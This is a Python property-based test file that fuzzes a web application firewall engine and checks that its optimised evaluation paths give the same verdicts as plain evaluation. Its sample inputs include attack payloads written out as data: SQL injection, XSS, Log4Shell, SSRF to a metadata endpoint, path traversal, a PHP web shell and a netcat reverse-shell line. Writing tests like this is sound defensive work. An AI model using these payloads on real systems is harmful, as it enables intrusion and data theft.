"""Hypothesis: request parsing and evaluation never raise, whatever arrives on the wire."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from assetguard.waf.documents import AclResources
from assetguard.waf.engine import compile_acl
from assetguard.waf.ipsets import IPSetStore
from assetguard.waf.request import HttpRequest
from assetguard.waf.requestfiles import parse_raw_request
from tests.waf.conftest import FIXTURE_GROUPS, FIXTURE_IPSETS, VIS

PROFILES = Path(__file__).parent / "profiles"
wire = st.binary(max_size=200).map(lambda b: b.decode("latin-1"))
soup = st.text(alphabet="/?&=;%+.:\\\"'<>{}[],0123456789abcXYZ \x00\t-_@$#*!()|uU", max_size=120)
text = st.one_of(wire, soup)
header = st.tuples(st.sampled_from(["User-Agent", "Cookie", "X-Forwarded-For", "Content-Type", "Referer", "X-Any",
                                    "X-Api-Key", "Host", "x-evil"]) | text, text)


def _all_profile_acls() -> list:  # type: ignore[type-arg]
    pytest.importorskip("assetguard.waf.detectors.sqli", reason="the profiles use SqliMatch")
    acls = []
    for path in sorted(PROFILES.glob("*.yaml")):
        profile = yaml.safe_load(path.read_text())
        doc = dict(profile["acl"], Name="fuzz", VisibilityConfig=VIS)
        doc.setdefault("DefaultAction", {"Allow": {}})
        for rule in doc["Rules"]:
            rule.setdefault("VisibilityConfig", VIS)
        resources = AclResources()
        for item in profile.get("resources", []):
            (kind, res), = item.items()
            resources.add(kind, res, path.name)
        acls.append(compile_acl(doc, resources=resources, ipsets=IPSetStore(FIXTURE_IPSETS), managed_dir=FIXTURE_GROUPS,
                                geoip_path=Path(__file__).parent / "fixtures" / "geo.csv"))
    return acls


@pytest.fixture(scope="module")
def acls() -> list:  # type: ignore[type-arg]
    return _all_profile_acls()


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(method=st.sampled_from(["GET", "POST", "PUT", "DELETE", "TRACE"]) | text, uri=text,
       headers=st.lists(header, max_size=8), body=st.binary(max_size=300) | soup.map(str.encode),
       ip=st.sampled_from(["10.0.0.1", "2001:db8::1", "not-an-ip", "", "198.51.100.4"]))
def test_no_exception_escapes_the_engine(acls, method: str, uri: str, headers: list, body: bytes, ip: str) -> None:  # type: ignore[no-untyped-def, type-arg]
    for acl in acls:
        verdict = acl.evaluate(HttpRequest(method, uri, list(headers), body, ip))
        assert verdict.action in ("ALLOW", "BLOCK")


@settings(max_examples=300, deadline=None)
@given(raw=st.binary(max_size=400))
def test_raw_request_parsing_never_crashes_unexpectedly(raw: bytes) -> None:
    from assetguard.core.errors import ValidationError

    try:
        request = parse_raw_request(raw, "fuzz")
    except ValidationError:
        return
    assert isinstance(request.path, str) and isinstance(request.query_args, list)
    assert isinstance(request.cookies, list) and isinstance(request.header_map, dict)


@settings(max_examples=300, deadline=None)
@given(record=st.fixed_dictionaries({}, optional={
    "method": st.one_of(st.text(max_size=10), st.integers()), "uri": st.one_of(st.text(max_size=50), st.none()),
    "headers": st.one_of(st.lists(st.lists(st.text(max_size=10), max_size=3), max_size=3), st.text(max_size=5)),
    "body": st.one_of(st.text(max_size=30), st.none(), st.dictionaries(st.text(max_size=3), st.integers())),
    "body_base64": st.one_of(st.text(max_size=12), st.none()), "client_ip": st.one_of(st.text(max_size=12), st.none())}))
def test_from_jsonl_record_accepts_or_names_the_problem(record: dict) -> None:  # type: ignore[type-arg]
    from assetguard.core.errors import ValidationError

    try:
        request = HttpRequest.from_jsonl_record(record)
    except ValidationError as exc:
        assert exc.where and exc.where.startswith("request")
        return
    assert request.json_body(8192)[0] in (True, False)


def _without_shortcuts(acl) -> None:  # type: ignore[no-untyped-def]
    """The reference evaluation: no prefilter plan, no rule or Or-part skipping, no memo, every
    transformation step run."""
    from assetguard.waf.statements import AndMatch, IPSetMatch, NotMatch, TextMatch

    def walk(statement) -> None:  # type: ignore[no-untyped-def]
        if isinstance(statement, IPSetMatch):
            statement.bit, statement.exact = 0, False
        elif isinstance(statement, TextMatch):
            statement.bit = 0
            statement.memo = None
            statement.inspector.memo = None
            statement.inspector.quick_ok = False  # run every transformation step
        elif isinstance(statement, AndMatch):
            statement.gate, statement.gated, statement.ungated = 0, (), statement.parts
            for part in statement.parts:
                walk(part)
        elif isinstance(statement, NotMatch):
            walk(statement.part)

    acl.plan = None
    acl._index = None  # rebuilt from the cleared needs on first use
    for rule in acl.rules:
        rule.need, rule.fast = 0, None
        if rule.group is not None:
            rule.group._index = None
            if rule.group.scope_down is not None:
                walk(rule.group.scope_down)
        for inner in (rule.group.rules if rule.group else [rule]):
            inner.need, inner.fast = 0, None
            if inner.statement is not None:
                walk(inner.statement)


@pytest.fixture(scope="module")
def acl_pairs() -> list:  # type: ignore[type-arg]
    plain = _all_profile_acls()
    for acl in plain:
        _without_shortcuts(acl)
    return list(zip(_all_profile_acls(), plain, strict=True))


attackish = st.text(alphabet="%&\\\x00/*+ <>'\"=;:.-_(){}$#AaBbSsEeLlCcTtUuNnIiOoRrJjDdXxPpWwHhMmVvKkYy0123456789\t",
                    max_size=60)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(path=attackish, query=st.lists(st.tuples(attackish, attackish), max_size=4),
       headers=st.lists(header, max_size=5), body=attackish.map(str.encode))
def test_prefilters_and_fast_paths_never_change_a_verdict(acl_pairs, path: str, query: list, headers: list,  # type: ignore[no-untyped-def, type-arg]
                                                         body: bytes) -> None:
    uri = "/" + path + ("?" + "&".join(f"{k}={v}" for k, v in query) if query else "")
    for fast, plain in acl_pairs:
        a = fast.evaluate(HttpRequest("POST", uri, list(headers), body, "10.0.0.1"), now=1.0)
        b = plain.evaluate(HttpRequest("POST", uri, list(headers), body, "10.0.0.1"), now=1.0)
        assert (a.action, a.terminating_rule_id, a.labels) == (b.action, b.terminating_rule_id, b.labels)


def test_prefilters_against_the_shipped_baseline() -> None:
    from assetguard.waf.engine import load_compiled_acl
    from assetguard.waf.managed.loader import GROUPS_DIR

    if not (GROUPS_DIR / "AWSManagedRulesCommonRuleSet.json").exists():
        pytest.skip("the shipped managed groups are not in the tree yet")
    fast, plain = load_compiled_acl("baseline"), load_compiled_acl("baseline")
    _without_shortcuts(plain)
    samples = ["/user/1?id=1", "/content?q=%3Cscript%3Ealert(1)%3C/script%3E", "/x/../../etc/passwd",
               "/was?u=http://169.254.169.254/latest/meta-data", "/user?name=O%27Brien&q=Select+Shoes",
               "/content?x=${jndi:ldap://a/b}", "/WAS/Health?A=B", "/user?q=1%27%20OR%201%3D1--"]
    for uri in samples:
        for ua in ("Mozilla/5.0", "sqlmap/1.7", "", "Nikto"):
            headers = [("User-Agent", ua)] if ua else []
            a = fast.evaluate(HttpRequest("GET", uri, headers, b"", "10.0.0.1"))
            b = plain.evaluate(HttpRequest("GET", uri, headers, b"", "10.0.0.1"))
            assert (a.action, a.terminating_rule_id, a.labels) == (b.action, b.terminating_rule_id, b.labels), uri


@pytest.fixture(scope="module")
def regex_fallback_pairs() -> list:  # type: ignore[type-arg]
    from assetguard.waf import prefilter

    original = prefilter._hyperscan_db
    prefilter._hyperscan_db = lambda leaves, caseless=frozenset(): (None, [])  # as on a platform without Hyperscan wheels
    try:
        fast = _all_profile_acls()
    finally:
        prefilter._hyperscan_db = original
    plain = _all_profile_acls()
    for acl in plain:
        _without_shortcuts(acl)
    return list(zip(fast, plain, strict=True))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(path=attackish, query=st.lists(st.tuples(attackish, attackish), max_size=4),
       headers=st.lists(header, max_size=5), body=attackish.map(str.encode))
def test_regex_fallback_never_changes_a_verdict(regex_fallback_pairs, path: str, query: list, headers: list,  # type: ignore[no-untyped-def, type-arg]
                                               body: bytes) -> None:
    uri = "/" + path + ("?" + "&".join(f"{k}={v}" for k, v in query) if query else "")
    for fast, plain in regex_fallback_pairs:
        a = fast.evaluate(HttpRequest("POST", uri, list(headers), body, "10.0.0.1"), now=1.0)
        b = plain.evaluate(HttpRequest("POST", uri, list(headers), body, "10.0.0.1"), now=1.0)
        assert (a.action, a.terminating_rule_id, a.labels) == (b.action, b.terminating_rule_id, b.labels)


# The shipped ACLs: many chains per field, Or statements with dozens of parts, groups skipped
# whole. Values mix attack syntax, '+' (the URL-decode shortcut), and bytes where Python's
# Unicode-aware \w/\s/\b differ from Hyperscan's byte semantics (\xa0, \xe9, \x1c).
shipped_text = st.text(alphabet="%&\\\x00/*+ <>'\"=;:.-_(){}$#|`AaSsEeLlCcTtUuNnIiOoRrJjDdXxPpHhMmWw0123456789\t"
                                "\xa0\xe9\x1c\xff", max_size=50)


@pytest.fixture(scope="module")
def shipped_pairs() -> list:  # type: ignore[type-arg]
    from assetguard.waf.engine import load_compiled_acl
    from assetguard.waf.managed.loader import GROUPS_DIR

    if not (GROUPS_DIR / "AWSManagedRulesCommonRuleSet.json").exists():
        pytest.skip("the shipped managed groups are not in the tree yet")
    pairs = []
    for name in ("baseline", "recommended"):
        plain = load_compiled_acl(name)
        _without_shortcuts(plain)
        pairs.append((load_compiled_acl(name), plain))
    return pairs


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(path=shipped_text, query=st.lists(st.tuples(shipped_text, shipped_text), max_size=3),
       cookie=shipped_text, ua=shipped_text, body=shipped_text.map(lambda t: t.encode("latin-1")),
       json_body=st.booleans())
def test_shipped_acls_same_verdict_with_and_without_the_plan(shipped_pairs, path: str, query: list, cookie: str,  # type: ignore[no-untyped-def, type-arg]
                                                             ua: str, body: bytes, json_body: bool) -> None:
    uri = "/user/" + path + ("?" + "&".join(f"{k}={v}" for k, v in query) if query else "")
    headers = [("Host", "app.example.com"), ("User-Agent", ua), ("Cookie", f"session={cookie}; theme=dark")]
    if json_body:
        headers.append(("Content-Type", "application/json"))
        body = b'{"title": "notes", "body": "' + body.replace(b"\\", b"").replace(b'"', b"") + b'"}'
    for fast, plain in shipped_pairs:
        # Twice through the fast ACL: the second answer comes from the cross-request memos.
        for _ in range(2):
            a = fast.evaluate(HttpRequest("POST", uri, list(headers), body, "10.0.0.1"), now=1.0)
            b = plain.evaluate(HttpRequest("POST", uri, list(headers), body, "10.0.0.1"), now=1.0)
            assert (a.action, a.terminating_rule_id, a.labels, a.non_terminating) == (
                b.action, b.terminating_rule_id, b.labels, b.non_terminating), uri


# Bodies longer than the plan's memo limit (MEMO_MAX_TEXT) take the body path: every chain's form
# computed once, one scan, each hit confirmed, detectors on their forms - the answer must be what
# each rule computes on its own. Long prose (which passes the detectors' own prefilters) with
# attack fragments at random places, as raw text, as a urlencoded form and inside JSON values.
_PROSE = ("We walked along the river, and talked about the new release; it's 'fine' (mostly). "
          "Select the shoes you like from the list, or order them by price. ")
_FRAGMENTS = ["' OR '1'='1", "<script>alert(1)</script>", "; cat /etc/passwd", "../../etc/passwd",
              "UNION SELECT password FROM users--", "<img src=x onerror=alert(1)>", "${jndi:ldap://a/b}",
              "%3Cscript%3E", "&lt;svg onload=alert(1)&gt;", "\\x3cscript\\x3e", "{\"$where\": \"sleep(1)\"}",
              "<?php system($_GET['c']); ?>", "| nc -e /bin/sh 10.0.0.1 4444", "1; DROP TABLE users",
              "javascript:alert(document.cookie)", "C:\\Windows\\System32\\cmd.exe /c dir", "Ä\xe9\xa0\x00\x1c"]
long_part = st.one_of(st.sampled_from(_FRAGMENTS), shipped_text,
                      st.integers(1, 60).map(lambda n: (_PROSE * 40)[:n * 20]))
long_text = st.lists(long_part, min_size=1, max_size=12).map("".join).map(
    lambda text: (_PROSE * 100)[: max(0, 600 - len(text))] + text)


def _long_body(text: str, shape: str) -> tuple[bytes, list[tuple[str, str]]]:
    import json
    import urllib.parse

    if shape == "form":
        half = len(text) // 2
        body = urllib.parse.urlencode({"title": text[:40], "body": text[:half], "more": text[half:]})
        return body.encode("latin-1", "replace"), [("Content-Type", "application/x-www-form-urlencoded")]
    if shape == "json":
        doc = {"title": text[:30], "tags": [text[:10], "x"], "body": text, "n": 7}
        return json.dumps(doc).encode(), [("Content-Type", "application/json")]
    return text.encode("latin-1", "replace"), [("Content-Type", "text/plain")]


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=long_text, shape=st.sampled_from(["raw", "form", "json"]), size=st.sampled_from([0, 1, 4]))
def test_long_bodies_same_verdict_with_and_without_the_plan(shipped_pairs, acl_pairs, text: str, shape: str,  # type: ignore[no-untyped-def, type-arg]
                                                            size: int) -> None:
    text = text * size if size else text[:9000]  # up to past the 8 KB inspection limit
    body, headers = _long_body(text, shape)
    headers = [("Host", "app.example.com"), ("User-Agent", "Mozilla/5.0"), *headers]
    for fast, plain in [*shipped_pairs, *acl_pairs]:
        a = fast.evaluate(HttpRequest("POST", "/content/1", list(headers), body, "10.0.0.1"), now=1.0)
        b = plain.evaluate(HttpRequest("POST", "/content/1", list(headers), body, "10.0.0.1"), now=1.0)
        assert (a.action, a.terminating_rule_id, a.labels, a.non_terminating) == (
            b.action, b.terminating_rule_id, b.labels, b.non_terminating), (shape, len(body))
